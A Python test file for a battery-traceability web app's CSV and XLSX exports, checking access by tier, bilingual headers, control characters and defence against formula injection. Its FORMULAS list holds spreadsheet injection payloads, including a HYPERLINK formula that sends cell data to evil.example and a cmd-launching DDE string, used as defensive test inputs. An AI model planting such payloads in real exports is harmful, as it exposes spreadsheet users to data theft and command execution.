"""Every table as CSV and XLSX, shaped by the viewer's tier."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from tests import kit


def _rows(resp, fmt):
    if fmt == "csv":
        text = resp.content.decode("utf-8-sig")
        return list(csv.reader(io.StringIO(text)))
    wb = load_workbook(io.BytesIO(resp.content))
    return [[("" if v is None else str(v)) for v in r] for r in wb.worksheets[0].values]


def test_control_characters_in_text_do_not_fail_an_xlsx_export():
    """XML 1.0 cannot hold most control characters: openpyxl raised IllegalCharacterError,
    so an enterprise named with one made its exports fail (a 500)."""
    from battrace.web.tabular import to_csv, to_xlsx

    row = ["Recycler\x01 Ltd", "tab\tand\nline"]
    sheet = load_workbook(io.BytesIO(to_xlsx(["a", "b"], [row]))).worksheets[0]
    written = [c.value for c in next(sheet.iter_rows(min_row=2))]
    assert written == ["Recycler\ufffd Ltd", "tab\tand\nline"]
    assert "Recycler\x01 Ltd" in to_csv(["a", "b"], [row]).decode("utf-8-sig")


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_findings_export_matches_the_filtered_table(web, fmt):
    web.sign_in(kit.REGULATOR)
    r = web.client.get(f"/export/findings.{fmt}?rule=BT-011")
    assert r.status_code == 200
    rows = _rows(r, fmt)
    assert rows[0][0] == "编号 (id)" and "rule" in rows[0][1]
    assert {row[1] for row in rows[1:]} == {"BT-011"}


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_scorecards_and_batteries_of_a_holder(web, fmt):
    web.sign_in(kit.REGULATOR)
    scores = _rows(web.client.get(f"/export/scorecards.{fmt}"), fmt)
    assert {r[0] for r in scores[1:]} >= {kit.RECYCLER, kit.DISMANTLER}
    held = _rows(web.client.get(f"/export/batteries.{fmt}?holder={kit.DISMANTLER}"), fmt)
    assert [r[0] for r in held[1:]] == [web.scenario.leaked] or len(held) >= 1


def test_an_enterprise_exports_only_its_own_rows(web):
    web.sign_in(kit.DISMANTLER)
    scores = _rows(web.client.get("/export/scorecards.csv"), "csv")
    assert [r[0] for r in scores[1:]] == [kit.DISMANTLER]
    r = web.client.get(f"/export/batteries.csv?holder={kit.RECYCLER}", follow_redirects=False)
    assert r.status_code == 403
    found = _rows(web.client.get("/export/findings.csv"), "csv")
    assert {r[3] for r in found[1:]} <= {kit.DISMANTLER}


def test_the_region_table_exports_for_regulators(web):
    web.sign_in(kit.REGULATOR)
    rows = _rows(web.client.get("/export/regions.xlsx"), "xlsx")
    assert rows[1][0] == "11"
    assert rows[1][1] == "北京"


def test_every_export_column_is_named_in_both_languages(web):
    """Half the export headers were bare field names; the regions' province column was
    headed "Enterprise (name)"."""
    from battrace.web.i18n import MESSAGES
    from battrace.web.routes.exports import HEADERS, TABLES

    web.sign_in(kit.REGULATOR)
    for table in TABLES:
        r = web.client.get(f"/export/{table}.csv?lang=en")
        assert r.status_code == 200, (table, r.text[:200])
        heads = r.content.decode("utf-8-sig").splitlines()[0].split(",")
        for head in heads:
            key = head.rsplit("(", 1)[-1].rstrip(")")
            assert key in HEADERS and HEADERS[key] in MESSAGES, (table, head)
    r = web.client.get("/export/regions.csv?lang=en")
    assert r.content.decode("utf-8-sig").splitlines()[0].split(",")[1].startswith("Province")


FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"open")', "+1+cmd|' /C calc'!A0",
            "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1"]  # fmt: skip


def test_text_that_starts_like_a_formula_is_written_as_text_and_numbers_stay_numbers():
    """Cells were written as they came: `=HYPERLINK(…)` from the data was a live formula in
    Excel. Text gets a leading `'` (OWASP); numbers, negative ones too, stay numbers."""
    from decimal import Decimal

    from battrace.web.tabular import to_csv, to_xlsx

    row = [*FORMULAS, [FORMULAS[0]], -3, -2.5, Decimal("-1.25"), "-12", "Recycler -1", "a=b"]
    heads = [f"c{i}" for i in range(len(row))]
    text = to_csv(heads, [row]).decode("utf-8-sig")
    cells = next(csv.reader(io.StringIO(text.split("\r\n", 1)[1])))
    assert cells == [*("'" + f for f in FORMULAS), "'" + FORMULAS[0], "-3", "-2.5", "-1.25",
                     "-12", "Recycler -1", "a=b"]  # fmt: skip
    sheet = load_workbook(io.BytesIO(to_xlsx(heads, [row]))).worksheets[0]
    written = next(sheet.iter_rows(min_row=2))
    assert all(c.data_type != "f" for c in written)
    # (XML reads a CR back as LF)
    assert [c.value.replace("\n", "\r") for c in written[: len(FORMULAS)]] == [
        "'" + f for f in FORMULAS
    ]
    assert [c.value for c in written[7:10]] == [-3, -2.5, -1.25]
    assert [c.data_type for c in written[7:10]] == ["n", "n", "n"]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_an_enterprise_named_like_a_formula_exports_as_text(web, fmt):
    name = FORMULAS[0]
    web.api.ok(
        web.api.ev(
            "enterprise_registered", "2025-01-08", kit.REGULATOR, enterprise=kit.SHADY,
            name=name, roles=["recycler"], region="110100",
        )
    )  # fmt: skip
    web.sign_in(kit.REGULATOR)
    r = web.client.get(f"/export/scorecards.{fmt}")
    assert r.status_code == 200
    if fmt == "xlsx":
        sheet = load_workbook(io.BytesIO(r.content)).worksheets[0]
        assert not [c for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    shady = next(row for row in _rows(r, fmt) if row[0] == kit.SHADY)
    assert shady[1] == "'" + name
